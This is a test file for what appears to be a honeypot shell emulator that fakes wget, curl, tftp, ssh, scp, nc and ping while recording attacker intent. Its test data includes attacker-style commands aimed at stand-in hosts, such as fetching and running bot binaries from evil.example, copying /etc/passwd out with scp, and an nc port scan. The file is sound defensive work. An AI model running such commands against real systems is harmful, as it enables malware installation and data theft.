/** What reaches out: nothing leaves, a plausible file appears, and the defender learns where the attacker meant to go. */
import { describe, expect, it } from 'vitest';
import { observed, waitlessMachine } from './fixtures/waitless-machine.ts';

const m = waitlessMachine();

describe('downloads', () => {
  it.each([
    ['wget http://evil.example/x86', 'http://evil.example/x86', '/root/x86', 'wget'],
    ['wget -q http://evil.example/a/b.sh -O /tmp/.x', 'http://evil.example/a/b.sh', '/tmp/.x', 'wget'],
    ['cd /tmp; wget 203.0.113.9:8080/mips', 'http://203.0.113.9:8080/mips', '/tmp/mips', 'wget'],
    ['wget -P /var/tmp https://evil.example/', 'https://evil.example/', '/var/tmp/index.html', 'wget'],
    ['wget -nv ftp://evil.example/f.tgz', 'ftp://evil.example/f.tgz', '/root/f.tgz', 'wget'],
    ['curl -O http://evil.example/bot.arm7', 'http://evil.example/bot.arm7', '/root/bot.arm7', 'curl'],
    ['curl -sSLo /tmp/y http://evil.example/y.py', 'http://evil.example/y.py', '/tmp/y', 'curl'],
    ['curl --output-dir /tmp -o z http://evil.example/z.zip', 'http://evil.example/z.zip', '/tmp/z', 'curl'],
    ['busybox wget http://evil.example/q', 'http://evil.example/q', '/root/q', 'wget'],
    ['busybox tftp -g -r mpsl 203.0.113.9', 'tftp://203.0.113.9/mpsl', '/root/mpsl', 'tftp'],
  ])('%s', async (line, url, path, tool) => {
    const fresh = waitlessMachine();
    const outcome = await fresh.run(line);
    expect(outcome.status).toEqual({ code: 0 });
    expect(observed(outcome, 'download')).toEqual([{ kind: 'download', url, tool, path }]);
    expect(Number(await fresh.out(`stat -c %s ${path}`))).toBeGreaterThan(30);
  });

  it.each([
    ['x.sh', /POSIX shell script/],
    ['bot.mips', /ELF 32-bit MSB executable, MIPS/],
    ['bot.x86_64', /ELF 64-bit LSB executable, x86-64/],
    ['bot.arm7', /ELF 32-bit LSB executable, ARM/],
    ['a.tgz', /gzip compressed data/],
    ['a.zip', /Zip archive data/],
    ['page.html', /HTML document/],
    ['note.txt', /ASCII text/],
  ])('%s looks like what it is called, the same each time', async (name, what) => {
    const fresh = waitlessMachine();
    await fresh.run(`wget -q http://evil.example/${name}`);
    expect(await fresh.out(`file ${name}`)).toMatch(what);
    const sum = await fresh.out(`md5sum < ${name}`);
    await fresh.run(`curl -s http://evil.example/${name} -o again`);
    expect(await fresh.out('md5sum < again')).toBe(sum);
  });

  it('never runs what was fetched', async () => {
    const fresh = waitlessMachine();
    const outcome = await fresh.run('wget -q http://evil.example/bot.x86_64; chmod +x bot.x86_64; ./bot.x86_64 -a b');
    expect(observed(outcome, 'execute')).toEqual([
      { kind: 'execute', path: '/root/bot.x86_64', argv: ['./bot.x86_64', '-a', 'b'] },
    ]);
  });

  it('wget tells its story', async () => {
    const fresh = waitlessMachine();
    const { stderr } = await fresh.run('wget http://evil.example/x86');
    expect(stderr).toMatch(
      /^--\d{4}-\d\d-\d\d \d\d:\d\d:\d\d-- {2}http:\/\/evil\.example\/x86\nResolving evil\.example \(evil\.example\)\.\.\. [\d.]+\nConnecting to [\s\S]*200 OK\nLength: \d+ \(\d+K\) \[\S+\]\nSaving to: ‘x86’\n\n[\s\S]*‘x86’ saved \[\d+\/\d+\]\n\n$/,
    );
    await fresh.run('wget -q http://evil.example/x86; wget -q http://evil.example/x86');
    expect(await fresh.out('ls')).toBe('x86\nx86.1\nx86.2');
    expect(await fresh.out('wget -qO- http://evil.example/a.sh | head -1')).toBe('#!/bin/sh');
    expect((await fresh.run('wget -S --spider http://evil.example/a.sh')).stderr).toMatch(
      /HTTP\/1\.1 200 OK\n[\s\S]*Remote file exists\./,
    );
    await fresh.run('printf "http://evil.example/1.sh\\nhttp://evil.example/2.sh\\n" > list; wget -i list -o log');
    expect(await fresh.out('ls 1.sh 2.sh; grep -c saved log')).toMatch(/^1\.sh\n2\.sh\n\d$/);
    expect((await fresh.run('wget -nv http://evil.example/3.sh')).stderr).toMatch(/URL:http.* -> "3\.sh" \[1\]\n$/);
    expect((await fresh.run('wget ftp://evil.example/f')).stderr).toContain('==> RETR f ... done.');
  });

  it('curl tells its story', async () => {
    expect(await m.out('curl -s http://evil.example/a.sh | head -1')).toBe('#!/bin/sh');
    expect((await m.run('curl http://evil.example/a.sh')).stderr).toContain('% Total    % Received % Xferd');
    expect((await m.run('curl -s http://evil.example/a.sh')).stderr).toBe('');
    expect(await m.out('curl -sI http://evil.example/')).toMatch(/^HTTP\/1\.1 200 OK\r\nServer: nginx\r\n/);
    expect(await m.out('curl -si http://evil.example/ | tail -1')).toBe('</html>');
    expect((await m.run('curl -sv http://evil.example/a')).stderr).toMatch(
      /^\* {3}Trying [\d.]+:80\.\.\.\n[\s\S]*> GET \/a HTTP\/1\.1\n> Host: evil\.example/,
    );
    expect(await m.out("curl -so /dev/null -w '%{http_code} %{remote_ip}\\n' http://203.0.113.7/")).toBe(
      '200 203.0.113.7',
    );
    expect(await m.out('curl -V')).toMatch(/^curl 7\.88\.1/);
    expect(await m.out('curl --help')).toMatch(/^Usage: curl/);
  });

  it.each([
    ['wget', /^wget: missing URL\n/, 1],
    ['wget http://nohost/x', /unable to resolve host address ‘nohost’\n$/, 4],
    ['wget gopher://x.example/', /Unsupported scheme/, 1],
    ['wget http://127.0.0.1:81/', /failed: Connection refused\.\n$/, 4],
    ['wget -T 5 http://10.1.2.3/', /failed: Connection timed out\.\n$/, 4],
    ['wget -O /nodir/x http://evil.example/x', /\/nodir\/x: No such file or directory/, 3],
    ['wget -i nofile', /^nofile: No such file or directory\n/, 1],
    ['curl', /^curl: try 'curl --help'/, 2],
    ['curl http://nohost/', /^curl: \(6\) Could not resolve host: nohost\n$/, 6],
    ['curl http://127.0.0.1:81/', /^curl: \(7\) Failed to connect to 127\.0\.0\.1 port 81/, 7],
    ['curl -m 3 http://10.1.2.3/', /^curl: \(28\) Connection timed out after 3001 milliseconds\n$/, 28],
    ['curl foo://x.example/', /^curl: \(1\) Protocol "foo" not supported/, 1],
    ['curl -O http://evil.example/', /^curl: \(23\) Remote file name has no length!\n$/, 23],
    ['curl --nope http://x.example', /^curl: option --nope: is unknown\n/, 2],
    ['curl -o', /^curl: option -o: requires parameter\n/, 2],
    ['curl -so /nodir/x http://evil.example/x', /^$/, 23],
    ['curl "http://a b/"', /^curl: \(3\) URL using bad/, 3],
    ['busybox tftp', /usage|Usage/, 1],
  ])('%s', async (line, stderr, code) => {
    const outcome = await m.run(line);
    expect(outcome.stderr).toMatch(stderr);
    expect(outcome.status).toEqual({ code });
  });

  it('are bounded in number and length', async () => {
    const many = await m.run(`curl -s $(for i in $(seq 1 300); do echo http://evil.example/$i.sh; done)`);
    expect(observed(many, 'download')).toHaveLength(50);
    const long = await m.run(`curl -s http://evil.example/${'a'.repeat(20_000)}`);
    expect(observed(long, 'download')[0]!.url.length).toBeLessThanOrEqual(2100);
  });
});

describe('connections', () => {
  it.each([
    [
      'ssh root@10.0.0.9',
      'ssh',
      '10.0.0.9',
      22,
      /^ssh: connect to host 10\.0\.0\.9 port 22: Connection timed out\r\n$/,
      255,
    ],
    ['ssh -p 2222 -o ConnectTimeout=3 a@10.0.0.9 id', 'ssh', '10.0.0.9', 2222, /port 2222: Connection timed out/, 255],
    ['ssh -p 23 127.0.0.1', 'ssh', '127.0.0.1', 23, /Connection refused/, 255],
    ['ssh localhost', 'ssh', 'localhost', 22, /Host key verification failed/, 255],
    ['ssh no-host', 'ssh', 'no-host', 22, /Could not resolve hostname no-host: Name or service not known/, 255],
    ['scp /etc/passwd u@203.0.113.4:/tmp', 'scp', '203.0.113.4', 22, /scp: Connection closed/, 255],
    ['sftp u@203.0.113.4', 'sftp', '203.0.113.4', 22, /Connection closed\. /, 255],
    ['telnet 127.0.0.1 24', 'telnet', '127.0.0.1', 24, /Connection refused/, 1],
    ['ping -c 1 203.0.113.4', 'ping', '203.0.113.4', 0, /^$/, 0],
  ])('%s', async (line, tool, host, port, stderr, code) => {
    const outcome = await m.run(line.startsWith('telnet') ? `busybox ${line}` : line);
    expect(outcome.stderr).toMatch(stderr);
    expect(outcome.status).toEqual({ code });
    expect(observed(outcome, 'connect')).toContainEqual({ kind: 'connect', tool, host, port });
  });

  it('nc finds what listens here and nothing else', async () => {
    const scan = await m.run('nc -zv -w 1 127.0.0.1 20-23');
    expect(scan.stderr).toMatch(/22 \(\?\) : open/);
    expect(scan.stderr).toMatch(/23 \(\?\) : Connection refused/);
    expect(observed(scan, 'connect').map(({ port }) => port)).toEqual([23, 22, 21, 20]);
    expect((await m.run('nc no-host 80')).stderr).toContain('forward host lookup failed: Unknown host');
    expect((await m.run('nc')).status).toEqual({ code: 1 });
    expect((await m.run('nc 127.0.0.1')).stderr).toBe('no port[s] to connect to\n');
    expect((await m.run('nc -h')).stderr).toContain('connect to somewhere:');
  });

  it('ping counts its packets', async () => {
    expect(await m.out('ping -c 2 example.com')).toMatch(
      /^PING example\.com \([\d.]+\) 56\(84\) bytes of data\.\n64 bytes from [\s\S]*icmp_seq=2 [\s\S]*2 packets transmitted, 2 received, 0% packet loss, time \d+ms\nrtt min\/avg\/max\/mdev = /,
    );
    expect(await m.out('ping -c 1 10.9.9.9')).toContain('1 packets transmitted, 0 received, 100% packet loss');
    expect(await m.out(`ping -qc 1 ${m.persona.network.gateway}`)).toContain('0% packet loss');
    expect((await m.run('ping no-host')).stderr).toBe('ping: no-host: Name or service not known\n');
    expect((await m.run('ping')).stderr).toBe('ping: usage error: Destination address required\n');
    expect((await m.run('ping -c x 1.1.1.1')).stderr).toBe("ping: invalid argument: 'x'\n");
    expect(await m.out('ping -V')).toMatch(/^ping from iputils/);
  });

  it.each(['ssh', 'scp', 'scp a', 'sftp', 'ssh -V', 'scp /etc/passwd /tmp/p; test -f /tmp/p'])(
    '%s answers without a connection',
    async (line) => {
      expect(observed(await m.run(line), 'connect')).toEqual([]);
    },
  );
});
